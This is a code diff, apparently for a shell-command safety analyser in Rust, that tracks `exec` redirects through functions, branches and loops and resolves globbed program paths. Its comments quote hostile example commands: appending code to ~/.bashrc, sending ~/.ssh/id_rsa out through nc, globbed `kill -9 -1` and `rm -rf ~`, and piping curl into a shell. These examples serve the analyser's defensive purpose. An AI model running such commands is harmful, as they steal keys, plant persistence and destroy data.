@@ -88,6 +88,9 @@ pub(crate) struct Walker<'l> {
     function_bodies: Vec<(String, Command)>,
     /// The functions whose bodies are being read again (a recursive call is not).
     rewalking: Vec<String>,
+    /// The redirects an `exec` without a command in a function's body applies to the shell,
+    /// by function (`f() { exec >> ~/.bashrc; }`): a call applies them to what follows it.
+    function_execs: Vec<(String, Vec<UnitRedirect>)>,
     /// Every function name defined anywhere in the code read so far (branches, loops, bodies,
     /// re-parsed code): a call of one prints what its body prints, not what the builtin or
     /// program of that name would (`echo() { printf id; }; echo ls | bash`).
@@ -163,6 +166,7 @@ impl<'l> Walker<'l> {
             functions: Vec::new(),
             function_bodies: Vec::new(),
             rewalking: Vec::new(),
+            function_execs: Vec::new(),
             defined: Vec::new(),
             arith: Vec::new(),
             arith_names: Vec::new(),
@@ -305,26 +309,82 @@ impl<'l> Walker<'l> {
     /// after it in the same list run with them, as if grouped under them (`exec >> ~/.bashrc;
     /// echo CODE` writes CODE there, `exec < ~/.ssh/id_rsa; nc h 9` sends the key, `exec
     /// <<EOF … sh` feeds `sh` the body). `before`: how many units there were before `cmd`.
+    ///
+    /// The `exec` may be anywhere the shell itself runs it: in an `&&`/`||` list (`true &&
+    /// exec >> ~/.bashrc`), a `{ …; }` group, a branch, a loop or a `case` arm, behind `!`, or
+    /// in the body of a function the command calls; not in a subshell, a pipeline stage, the
+    /// background or a substitution, which are other processes. A function's definition runs
+    /// nothing.
     fn exec_redirects(&self, cmd: &Command, ctx: &Ctx, before: usize) -> Option<Ctx> {
-        let Command::Simple(s) = cmd else {
-            return None;
-        };
-        if s.redirects.is_empty() || s.words.len() != 1 {
+        if matches!(cmd, Command::Function { .. }) {
             return None;
         }
-        // The `exec` unit the command made: its redirects after the context's are its own.
-        let unit = self.units.get(before..)?.iter().find(|u| {
-            u.program.as_deref() == Some("exec") && u.via == ctx.via && u.argv.len() == 1
-        })?;
-        let mut c = ctx.clone();
-        c.redirects
-            .extend(unit.redirects.iter().skip(ctx.redirects.len()).cloned());
-        for r in &s.redirects {
-            if let Some(feed) = stdin_feed(r) {
-                c.feed = Some(feed);
+        let mut c = self.exec_redirects_since(ctx, before)?;
+        if let Command::Simple(s) = cmd {
+            for r in &s.redirects {
+                if let Some(feed) = stdin_feed(r) {
+                    c.feed = Some(feed);
+                }
             }
         }
         Some(c)
+    }
+
+    /// `ctx` with the redirects of the `exec` units without a command made since the unit
+    /// `before` in the shell `ctx` runs in (see [`Self::exec_redirects`]); `None` when there
+    /// is none.
+    fn exec_redirects_since(&self, ctx: &Ctx, before: usize) -> Option<Ctx> {
+        // The `exec` units made in this shell: their redirects after the context's are their
+        // own.
+        let mut c: Option<Ctx> = None;
+        for unit in self.units.get(before..)? {
+            // Run by the shell itself through `eval`, `builtin`, `command`, `time`, or code it
+            // reads with `source`/`.` (`eval 'exec >> ~/.bashrc'`).
+            let Some(runners) = unit.via.strip_prefix(ctx.via.as_slice()) else {
+                continue;
+            };
+            let sourced = runners.iter().any(|r| r == "source" || r == ".");
+            if unit.program.as_deref() != Some("exec")
+                || unit.argv.len() != 1
+                || !runners.iter().all(|r| {
+                    matches!(
+                        r.as_str(),
+                        "eval" | "builtin" | "command" | "time" | "source" | "."
+                    )
+                })
+                || !unit.context.starts_with(&ctx.context)
+                || !unit.context[ctx.context.len()..].iter().all(|k| {
+                    matches!(
+                        k,
+                        Context::Condition
+                            | Context::Loop
+                            | Context::Case
+                            | Context::Function
+                            | Context::Eval
+                    ) || *k == Context::StdinCode && sourced
+                })
+            {
+                continue;
+            }
+            let own = unit
+                .redirects
+                .get(ctx.redirects.len()..)
+                .unwrap_or_default();
+            if own.is_empty() {
+                continue;
+            }
+            let c = c.get_or_insert_with(|| ctx.clone());
+            for r in own {
+                if !c.redirects.contains(r) {
+                    c.redirects.push(r.clone());
+                }
+                if super::replaces_stdin(&r.op, r.fd.as_deref()) {
+                    // Known text only for an `exec` written as the command itself.
+                    c.feed = Some(Feed::Dynamic(r.span));
+                }
+            }
+        }
+        c
     }
 
     fn command(&mut self, cmd: &Command, ctx: &Ctx) {
@@ -353,8 +413,13 @@ impl<'l> Walker<'l> {
             Command::Pipeline { stages, span } => self.pipeline(stages, *span, ctx),
             Command::AndOr { left, right, .. } => {
                 self.flag(FlagKind::Chaining, right.span(), "");
+                let before = self.units.len();
                 self.command(left, ctx);
                 self.branches += 1;
+                // `exec >> ~/.bashrc && echo CODE`: the right side runs with the shell's
+                // descriptors as the left side left them.
+                let shell = self.exec_redirects(left, ctx, before);
+                let ctx = shell.as_ref().unwrap_or(ctx);
                 self.command(right, &read_after(ctx, left.span()));
                 self.branches -= 1;
             }
@@ -473,7 +538,14 @@ impl<'l> Walker<'l> {
                 // The body's `$1`… are the call's arguments, not the line's.
                 let saved = self.exported.len();
                 self.bind_positionals(None, *span);
-                self.within(body, Context::Function, ctx);
+                let before = self.units.len();
+                let inside = ctx.with(Context::Function);
+                self.command(body, &inside);
+                let execs = self
+                    .exec_redirects_since(&inside, before)
+                    .map(|c| c.redirects[inside.redirects.len()..].to_vec())
+                    .unwrap_or_default();
+                self.function_execs.push((name.clone(), execs));
                 let set_inside: Vec<UnitAssignment> = self
                     .exported
                     .drain(saved..)
@@ -1031,11 +1103,21 @@ impl<'l> Walker<'l> {
                 read_after(ctx, c.span())
             });
         self.branches += 1;
+        let before = self.units.len();
         for (cond, body) in branches {
             self.commands_within(cond, Context::Condition, ctx);
             self.commands(body, &after);
         }
         self.commands(else_body, &after);
+        // `if exec >> ~/.bashrc; then echo CODE; fi`: an `exec` without a command in a
+        // condition or a branch changes the shell's descriptors for what runs after it; the
+        // bodies are read again with its redirects (whichever branch it is in).
+        if let Some(shell) = self.exec_redirects_since(&after, before) {
+            for (_, body) in branches {
+                self.commands(body, &shell);
+            }
+            self.commands(else_body, &shell);
+        }
         self.branches -= 1;
     }
 
@@ -1074,8 +1156,15 @@ impl<'l> Walker<'l> {
             self.read_loops.push((c.span, span));
         }
         let l = ctx.with(Context::Loop);
+        let before = self.units.len();
         self.commands_within(condition, Context::Condition, &l);
         self.commands(body, &l);
+        // An `exec` without a command in the condition or the body: the next test and the
+        // next pass run with its redirects.
+        if let Some(shell) = self.exec_redirects_since(&l, before) {
+            self.commands_within(condition, Context::Condition, &shell);
+            self.commands(body, &shell);
+        }
         if !until && ctx.feed.is_some() {
             self.loop_lines_again(condition, body, ctx);
         }
@@ -2482,6 +2571,40 @@ impl<'l> Walker<'l> {
                     self.resolve(&named, assignments, &ctx);
                     return;
                 }
+                // `/usr/bin/ki?? -9 -1`, `/bin/r[m] -rf ~`: a glob in the file name of a system
+                // directory expands to the programs installed there whose names match (the
+                // first of them runs). Each program of the catalogue whose name matches is read
+                // as the program, so the line is judged as the worst of them; the unit of the
+                // unknown program stays (other files may match), so it is never allowed.
+                if first.arg.glob
+                    && let Some(pattern) = first.arg.value.as_deref()
+                    && let Some((dir, file)) = pattern.rsplit_once('/')
+                    && let Some(system) =
+                        system_dir_matching(if dir.is_empty() { "/" } else { dir })
+                {
+                    let candidates: Vec<&str> = crate::programs::tables::program_names()
+                        .filter(|name| crate::files::secret_glob::bash_fnmatch(file, name, false))
+                        .take(MAX_GLOB_PROGRAMS + 1)
+                        .collect();
+                    if candidates.len() <= MAX_GLOB_PROGRAMS {
+                        for name in candidates {
+                            let mut named: Vec<ArgW> = rest.to_vec();
+                            named[0].arg =
+                                Arg::literal(&format!("{system}/{name}"), first.arg.span);
+                            let mut c = ctx.clone().into_owned();
+                            c.via.clone_from(&via);
+                            self.resolve(&named, assignments.clone(), &c);
+                        }
+                    } else {
+                        self.flag(
+                            FlagKind::CommandPositionExpansion,
+                            first.arg.span,
+                            format!(
+                                "the glob matches more than {MAX_GLOB_PROGRAMS} known programs; which one runs is not read"
+                            ),
+                        );
+                    }
+                }
                 if names_a_shell(first.word) {
                     // `curl … | $SHELL`, `${BASH:-sh} -c …`: whatever its value, the variable
                     // names a shell; analysed as `sh` (still flagged: the value is unknown).
@@ -2534,6 +2657,34 @@ impl<'l> Walker<'l> {
                 && let Some(body) = self.body_to_read_again(name)
             {
                 self.read_body_again(name, &body, &ctx);
+            }
+            // `f() { exec >> ~/.bashrc; }; f; echo CODE`: the call applies the redirects of an
+            // `exec` without a command in the body to the shell, as that `exec` would.
+            if start == 0
+                && via.is_empty()
+                && !self.rewalking.iter().any(|f| f == name)
+                && self.functions.iter().any(|f| f == name)
+                && let Some((_, execs)) = self.function_execs.iter().rev().find(|(f, _)| f == name)
+                && !execs.is_empty()
+            {
+                let mut redirects = ctx.redirects.clone();
+                redirects.extend(execs.iter().cloned());
+                self.push_unit(Unit {
+                    program: Some("exec".to_owned()),
+                    path: None,
+                    argv: vec![Arg::literal("exec", first.arg.span)],
+                    span: first.arg.span,
+                    via: ctx.via.clone(),
+                    context: ctx.context.clone(),
+                    assignments: self.exported.clone(),
+                    redirects,
+                    depth: self.nest,
+                    appended_args: false,
+                    piped: ctx.piped,
+                    stdin: None,
+                    wrapper_reads: Vec::new(),
+                    script: None,
+                });
             }
             // A call of a function defined earlier on the line runs its body, whose units are
             // already analysed (`f() { ls; }; f`). With redirects, assignments or a wrapper it
@@ -3103,6 +3254,10 @@ const SYSTEM_DIRS: Words = words![
 
 /// The first of [`SYSTEM_DIRS`] a directory glob may expand to, matched a component at a time
 /// as bash expands it (`/b??` → `/bin`, `/u*/b*` → `/usr/bin`, `/tmp/*` → none).
+/// The most programs of the catalogue a glob in a program's file name is read as, one unit
+/// each (`/usr/bin/*` matches them all: then none is read, and the unit stays unknown).
+const MAX_GLOB_PROGRAMS: usize = 64;
+
 fn system_dir_matching(pattern: &str) -> Option<&'static str> {
     let want: Vec<&str> = pattern.split('/').collect();
     SYSTEM_DIRS.iter().find(|d| {
